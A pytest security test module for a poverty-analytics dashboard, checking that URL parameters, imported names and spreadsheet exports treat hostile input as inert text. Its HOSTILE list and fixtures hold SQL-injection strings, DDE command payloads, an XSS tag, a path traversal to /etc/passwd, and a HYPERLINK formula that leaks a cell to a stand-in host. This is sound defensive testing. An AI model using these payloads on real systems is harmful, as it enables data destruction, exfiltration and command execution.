"""Hostile input is data, never code: URL parameters, widget values, imported text, names.

Every SQL value is bound and every identifier comes from an allow-list, so a
string such as ``'); DROP TABLE households;--`` is stored or shown as text and
the store stays intact; spreadsheet exports quote formula-looking cells.
"""

from __future__ import annotations

import hashlib
import io
import re
import shutil
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest

from tests.conftest import REPO
from tests.security.conftest import app_test

SQLI = "'); DROP TABLE households;--"
FORMULA = '=HYPERLINK("http://x.invalid/?leak="&A1,"klik")'
HOSTILE = [
    SQLI,
    FORMULA,
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '"; DROP TABLE districts; --',
    "<script>alert(1)</script>",
    "2025 OR 1=1",
    "../../etc/passwd",
    "\x00\n\r\t",
    "9" * 300,
]


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def store_counts(path: Path) -> dict[str, int]:
    from store.db import Store, table_counts

    with Store(path).read() as con:
        return table_counts(con)


# ------------------------------------------------------------------ URL and widgets


@pytest.mark.slow
@pytest.mark.parametrize("value", HOSTILE, ids=lambda v: re.sub(r"\W+", "_", v)[:20] or "ctl")
def test_hostile_url_parameters_are_dropped(small_store_env, tmp_path, monkeypatch, value):
    monkeypatch.setenv("RPKD_ACCOUNTS", str(tmp_path / "none.toml"))
    monkeypatch.setenv("RPKD_STATE_DIR", str(tmp_path / "state"))
    monkeypatch.chdir(REPO)
    before = sha256(small_store_env)
    query = {k: value for k in ("year", "zone", "district", "lang", "level", "role", "page")}
    at = app_test(None, query=query)
    at.run()
    assert not at.exception
    # Each filter fell back to a valid value; the interface stayed in Indonesian.
    assert at.session_state["f_year"] == 2025
    assert at.session_state["f_zone"] == "all"
    assert at.session_state["f_district"] == "all"
    assert at.session_state["lang"] == "id"
    # The URL now carries only valid values.
    assert dict(at.query_params).get("year") in (["2025"], "2025")
    for k in ("zone", "district"):
        assert value not in str(at.query_params.get(k, ""))
    # Nothing of it is echoed into the page.
    shown = [
        e.value
        for kind in ("title", "header", "subheader", "markdown", "caption", "error", "warning")
        for e in getattr(at, kind)
    ]
    assert not any(value.strip() and value in str(s) for s in shown)
    assert sha256(small_store_env) == before


@pytest.mark.slow
def test_every_open_page_survives_hostile_parameters(small_store_env, tmp_path, monkeypatch):
    from ui import nav

    monkeypatch.setenv("RPKD_ACCOUNTS", str(tmp_path / "none.toml"))
    monkeypatch.setenv("RPKD_STATE_DIR", str(tmp_path / "state"))
    monkeypatch.chdir(REPO)
    before = sha256(small_store_env)
    scripts = [p.script for p in nav.pages_for("open") if (REPO / p.script).exists()]
    for script in scripts:
        at = app_test(None, query={"year": SQLI, "zone": FORMULA, "district": SQLI})
        at.run()
        at.switch_page(script)
        at.run()
        assert not at.exception, (script, [e.value for e in at.exception])
    assert sha256(small_store_env) == before


@pytest.mark.slow
def test_hostile_text_in_the_audit_filter_is_bound(app_env, state_dir):
    from ui import audit

    audit.record("download", {"what": "x"}, user="budi", role="planner")
    at = app_test("admin")
    at.run()
    at.switch_page("pages/audit.py")
    at.run()
    at.text_input(key="audit_user").input(SQLI).run()
    assert not at.exception
    assert len(at.dataframe) == 0  # no user has that name: nothing listed, nothing broken
    at.text_input(key="audit_user").input("budi").run()
    assert len(at.dataframe) == 1
    assert list(audit.read(path=state_dir / "audit.sqlite3").user_name) == ["budi"]  # intact


# ------------------------------------------------------------------ identifiers


@pytest.mark.parametrize("name", [SQLI, "households; DROP TABLE x", "households--", "a b", ""])
def test_identifiers_outside_the_allow_list_are_refused(small_store_path, name):
    from analytics.poverty import fgt_by
    from store import queries

    with pytest.raises(ValueError):
        queries.table_name(name)
    con = duckdb.connect(str(small_store_path), read_only=True)
    try:
        with pytest.raises(ValueError):
            fgt_by(con, households=name, line_rp=1_000_000.0, year=2025, by="district")
        with pytest.raises(ValueError):
            fgt_by(con, line_rp=1_000_000.0, year=2025, by=name)
    finally:
        con.close()


def test_pages_hold_no_sql():
    """SQL lives in store/, ingest/ and analytics/; pages only call ui.data."""
    for path in sorted((REPO / "pages").glob("*.py")):
        text = path.read_text()
        assert ".execute(" not in text, path.name
        assert not re.search(r"\bSELECT\b.+\bFROM\b", text), path.name


# ------------------------------------------------------------------ imported text


@pytest.fixture(scope="module")
def hostile_store(small_store_path, tmp_path_factory):
    """A copy of the small store with hostile programme names, OPDs and household ids."""
    from ingest.load import import_delivery
    from store.db import Store

    d = tmp_path_factory.mktemp("hostile")
    db = d / "store.duckdb"
    shutil.copy(small_store_path, db)
    store = Store(db)
    progs = pd.DataFrame(
        {
            "programme_code": [f"HX{i:02d}" for i in range(len(HOSTILE[:9]))],
            "name": HOSTILE[:9],
            "opd": [FORMULA] * 9,
            "funding_source": ["APBD"] * 9,
            "programme_group": ["other"] * 9,
        }
    )
    import_delivery(store, "programmes", progs, file_name=f"{SQLI}.csv", user=FORMULA)
    hh = pd.DataFrame(
        {
            "year": 2030,
            "hh_id": [SQLI, FORMULA, "+1", "@x", "-1", "ok-1"],
            "district_code": "94.04.01",
            "hh_size": 3,
            "consumption_pc_rp": 900_000.0,
            "weight": 1.0,
        }
    )
    import_delivery(store, "households", hh, file_name=f"{FORMULA}.csv", user=SQLI)
    return db


def test_hostile_text_is_stored_verbatim_and_the_store_is_intact(hostile_store, small_store_path):
    con = duckdb.connect(str(hostile_store), read_only=True)
    names = [
        r[0]
        for r in con.execute(
            "SELECT name FROM programmes WHERE programme_code LIKE 'HX%' ORDER BY 1"
        ).fetchall()
    ]
    ids = {r[0] for r in con.execute("SELECT hh_id FROM households WHERE year = 2030").fetchall()}
    log = con.execute(
        "SELECT file_name, user_name FROM import_log ORDER BY import_id DESC LIMIT 2"
    ).fetchall()
    con.close()
    assert sorted(names) == sorted(HOSTILE[:9])
    assert ids == {SQLI, FORMULA, "+1", "@x", "-1", "ok-1"}
    assert (f"{FORMULA}.csv", SQLI) in log
    before = store_counts(small_store_path)
    after = store_counts(hostile_store)
    assert after["households"] == before["households"] + 6
    assert after["districts"] == before["districts"] == 18
    assert after["programmes"] == before["programmes"] + 9


def test_hostile_column_names_are_ignored_not_run(hostile_store, tmp_path):
    from ingest.load import ImportRefused, import_delivery
    from store.db import Store

    db = tmp_path / "s.duckdb"
    shutil.copy(hostile_store, db)
    f = tmp_path / "hh.csv"
    f.write_text(
        'year,hh_id,district_code,hh_size,consumption_pc_rp,"x""); DROP TABLE households;--"\n'
        "2029,A1,94.04.01,2,800000,1\n"
    )
    before = store_counts(db)
    try:
        import_delivery(Store(db), "households", f, user="t")
    except ImportRefused:
        pass  # refusing the file is fine too; running the name is not
    after = store_counts(db)
    assert after["households"] in (before["households"], before["households"] + 1)
    assert after["districts"] == 18


@pytest.mark.slow
def test_exports_neutralise_formula_cells(hostile_store):
    from ui import export

    con = duckdb.connect(str(hostile_store), read_only=True)
    df = con.execute(
        "SELECT programme_code, name, opd, -5.5 AS negative_number FROM programmes "
        "WHERE programme_code LIKE 'HX%' ORDER BY programme_code"
    ).df()
    con.close()

    csv = pd.read_csv(io.BytesIO(export.to_csv_bytes(df)), dtype=str, keep_default_na=False)
    xlsx = openpyxl.load_workbook(io.BytesIO(export.to_xlsx_bytes(df)), data_only=False)
    ws = xlsx.worksheets[0]
    header = [c.value for c in ws[1]]
    xrows = [dict(zip(header, [c.value for c in r], strict=False)) for r in ws.iter_rows(min_row=2)]
    for cells in (csv["name"].tolist() + csv["opd"].tolist(), [r["name"] for r in xrows]):
        for v in cells:
            assert not str(v).startswith(("=", "+", "-", "@", "\t", "\r")), v
    # Nothing became a formula in the workbook, and numbers stay numbers.
    for row in ws.iter_rows():
        for c in row:
            assert c.data_type != "f", c.value
    assert all(r["negative_number"] == -5.5 for r in xrows)
    assert set(csv["negative_number"]) == {"-5.5"}
    # The text is kept (quoted), not dropped.
    assert "'" + FORMULA in csv["opd"].tolist()


@pytest.mark.slow
def test_the_household_download_neutralises_hostile_ids(hostile_store, monkeypatch):
    """The Data & Unduh household table, through the same builder the page uses."""
    catalogue = pytest.importorskip("ui.catalogue")
    from ui import export

    monkeypatch.setenv("RPKD_DB", str(hostile_store))
    spec = {s.key: s for s in catalogue.tables_for("analyst")}["rumah_tangga"]
    q = catalogue.Query(2030, None, None, 1_000_000.0, 10)
    df = spec.build(q)
    assert set(df["hh_id"]) >= {SQLI, FORMULA}
    out = pd.read_csv(io.BytesIO(export.to_csv_bytes(df)), dtype=str, keep_default_na=False)
    assert "'" + FORMULA in set(out["hh_id"])
    assert not any(v.startswith(("=", "+", "-", "@")) for v in out["hh_id"])


@pytest.mark.slow
def test_the_rat_workbook_keeps_planner_text_as_text(small_store_path, tmp_path):
    """Text a planner types into the RAT (activity, indicator) never becomes a formula."""
    from planning import rat
    from planning.export import rat_workbook
    from store.db import Store

    db = tmp_path / "s.duckdb"
    shutil.copy(small_store_path, db)
    store = Store(db)
    with store.read() as con:
        year = rat.default_plan_year(con)
        rows = rat.draft_from_programmes(con, year).head(3).copy()
    rows.loc[rows.index[0], "activity"] = FORMULA
    rows.loc[rows.index[1], "indicator"] = "=1+1"
    rows.loc[rows.index[2], "activity"] = "http://x.invalid/phish"
    rat.save_plan(store, rows, plan_year=year, user="planner")
    with store.read() as con:
        wb = openpyxl.load_workbook(io.BytesIO(rat_workbook(con, year)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.coordinate for c in cells if c.hyperlink is not None] == []
    assert FORMULA in [c.value for c in cells]  # kept, as text
